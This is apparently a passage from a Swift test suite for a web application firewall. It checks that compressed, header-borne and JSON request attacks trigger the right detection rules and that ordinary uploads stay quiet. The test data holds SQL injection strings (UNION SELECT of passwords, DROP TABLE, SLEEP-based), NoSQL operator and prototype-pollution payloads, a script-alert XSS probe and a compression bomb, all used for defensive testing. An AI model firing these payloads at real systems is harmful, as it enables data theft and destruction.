        ("X-Forwarded-For", "127.0.0.1' UNION ALL SELECT NULL,NULL,version()-- ", 1001),
        ("Referer", "https://x/'; DROP TABLE logs; --", 1005),
        ("X-Client-IP", "1.2.3.4' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- ", 1006),
    ])
    func injectedHeaderIsCaught(_ name: String, _ value: String, _ rule: Int) {
        let headers = Self.browser.filter { $0.0 != name } + [(name, value)]
        let ids = DefaultRuleCoverageTests.rules.evaluate(request("/index.html", headers: headers), scratch: DetectionScratch()).map(\.rule.id)
        #expect(ids.contains(rule), "\(name): \(ids)")
    }
}

/// Compressed request bodies are inspected as the application reads them (EVASION 10).
@Suite struct CompressedBodyTests {
    static func post(_ body: [UInt8], encoding: String?, type: String = "application/x-www-form-urlencoded") -> HTTPRequest {
        var headers = [("Host", "shop.example"), ("Content-Type", type)]
        if let encoding { headers.append(("Content-Encoding", encoding)) }
        return HTTPRequest.synthesize(method: "POST", target: Array("/comment".utf8), headers: headers, body: body)!
    }

    static func ruleIDs(_ request: HTTPRequest) -> [Int] {
        DefaultRuleCoverageTests.rules.evaluate(request, scratch: DetectionScratch()).map(\.rule.id)
    }

    @Test(arguments: [("gzip", Int32(31)), ("x-gzip", 31), ("deflate", 15), ("deflate", -15)])
    func attackInACompressedFormIsFound(_ encoding: String, _ windowBits: Int32) {
        let form = Array("user=alice&comment=1%27%20UNION%20SELECT%20password%20FROM%20users--".utf8)
        let compressed = Deflate.compress(form, windowBits: windowBits)
        #expect(!compressed.contains(Array("UNION".utf8)))
        #expect(Self.ruleIDs(Self.post(compressed, encoding: encoding)).contains(1001), "\(encoding)")
        // The same bytes without the header are just bytes: nothing to find, nothing invented.
        #expect(!Self.ruleIDs(Self.post(compressed, encoding: nil)).contains(1001))
    }

    /// Uploads carry part headers (`Content-Type:` after a CR LF) and forms carry free text:
    /// neither is a header injection or anything else.
    @Test func ordinaryUploadsAndFormsAreQuiet() {
        let multipart = "--b\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.png\"\r\nContent-Type: image/png\r\n\r\n"
            + "PNG...\r\n--b\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\nHello!\r\nLocation: Berlin\r\n--b--\r\n"
        let upload = Self.post(Array(multipart.utf8), encoding: nil, type: "multipart/form-data; boundary=b")
        #expect(Self.ruleIDs(upload).isEmpty, "\(Self.ruleIDs(upload))")
        let form = Self.post(Array("comment=Great+team%21%0D%0ALocation%3A+Berlin%0D%0AContent-Type%3A+remote&rating=5".utf8), encoding: nil)
        #expect(Self.ruleIDs(form).isEmpty, "\(Self.ruleIDs(form))")
    }

    @Test func operatorsAndPrototypeKeysInAJSONBodyAreFound() {
        let request = Self.post(Array(#"{"user": "admin", "pass": {"$ne": null}}"#.utf8), encoding: nil, type: "application/json")
        #expect(Self.ruleIDs(request).contains(1010))
        let pollution = Self.post(Array(#"{"name": "x", "__proto__": {"isAdmin": true}}"#.utf8), encoding: nil, type: "application/json")
        #expect(Self.ruleIDs(pollution).contains(8007))
        // A script uploaded as a file mentions __proto__ for its own reasons.
        let script = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"lib.js\"\r\nContent-Type: text/javascript\r\n\r\n"
            + "if (obj.__proto__ === Object.prototype) {}\r\n--b--\r\n"
        #expect(!Self.ruleIDs(Self.post(Array(script.utf8), encoding: nil, type: "multipart/form-data; boundary=b")).contains(8007))
    }

    @Test func argumentsOfACompressedJSONBodyAreParsed() {
        let json = Array(#"{"q": "<script>alert(1)</script>", "n": 1}"#.utf8)
        let request = Self.post(Deflate.compress(json, windowBits: 31), encoding: "gzip", type: "application/json")
        let arguments = RequestArguments(request: request)
        #expect(arguments.names.contains(Array("q".utf8)))
        #expect(Self.ruleIDs(request).contains(2001))
    }

    @Test func aCompressionBombYieldsOnlyItsBoundedStart() {
        let bomb = Deflate.compress([UInt8](repeating: 0x61, count: 50 << 20), windowBits: 31)
        #expect(bomb.count < 100_000)
        let decoded = BodyDecoding.applicationBody(Self.post(bomb, encoding: "gzip"))
        #expect(decoded.decoded)
        #expect(decoded.bytes.count == BodyDecoding.maxDecodedBytes)
    }

    @Test func aCutOrBrokenBodyFallsBackSafely() throws {
        let form = Array(("pad=" + String(repeating: "x", count: 3000) + "&c=%27%20AND%20SLEEP(5)--").utf8)
        let compressed = Deflate.compress(form, windowBits: 31)
        // Cut (the inspection limit): what inflates before the cut is read.
        let cut = BodyDecoding.applicationBody(Self.post(Array(compressed.prefix(compressed.count / 2)), encoding: "gzip"))
        #expect(cut.decoded && !cut.bytes.isEmpty && Array(form.prefix(cut.bytes.count)) == cut.bytes)
        // Not compressed at all, or an unknown coding: the raw body is inspected.
        let plain = Self.post(form, encoding: "gzip")
        #expect(!BodyDecoding.applicationBody(plain).decoded)
        #expect(Self.ruleIDs(plain).contains(1004))
        #expect(!BodyDecoding.applicationBody(Self.post(compressed, encoding: "br")).decoded)
        // Two gzip members back to back (gzip readers read both): the second is inspected too.
        let members = Deflate.compress(Array("user=alice&".utf8), windowBits: 31)
            + Deflate.compress(Array("c=1%27%20UNION%20SELECT%20password%20FROM%20users--".utf8), windowBits: 31)
        #expect(Self.ruleIDs(Self.post(members, encoding: "gzip")).contains(1001))
        // Garbage after a complete stream does not make the whole body "not compressed".
        let padded = Deflate.compress(Array("c=1%27%20UNION%20SELECT%20password%20FROM%20users--".utf8), windowBits: 15) + Array("\u{1}garbage".utf8)
        #expect(Self.ruleIDs(Self.post(padded, encoding: "deflate")).contains(1001))
        // Applied twice (listed in order): undone twice.
        let twice = Deflate.compress(compressed, windowBits: 15)
        let undone = BodyDecoding.applicationBody(Self.post(twice, encoding: "gzip, deflate"))
        #expect(undone.decoded && undone.bytes == form)
    }
}
